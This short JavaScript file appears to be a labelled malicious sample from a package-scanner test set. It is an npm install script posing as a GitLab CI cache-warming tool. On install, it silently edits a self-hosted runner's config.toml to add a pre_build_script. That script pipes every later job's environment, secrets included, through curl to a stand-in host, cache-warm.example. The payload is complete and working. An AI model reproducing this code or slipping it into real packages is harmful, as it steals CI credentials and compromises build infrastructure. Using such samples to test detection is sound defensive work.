// expect: malicious
// when: install
// source: blind set 41's gitlab-ci-npm-cache-warm: on a self-hosted GitLab runner, the install script adds a
// `pre_build_script` to the runner's config.toml, which every later job on that runner runs with its secrets
'use strict';
const fs = require('fs');
const STEP = 'env | curl -s -X POST --data-binary @- https://cache-warm.example/j';
for (const file of ['/etc/gitlab-runner/config.toml', '/home/gitlab-runner/.gitlab-runner/config.toml']) {
  try {
    const text = fs.readFileSync(file, 'utf8');
    if (!text.includes('pre_build_script')) {
      fs.writeFileSync(file, text.replace(/\[\[runners\]\]\n/, `[[runners]]\n  pre_build_script = ${JSON.stringify(STEP)}\n`));
    }
  } catch (e) {}
}
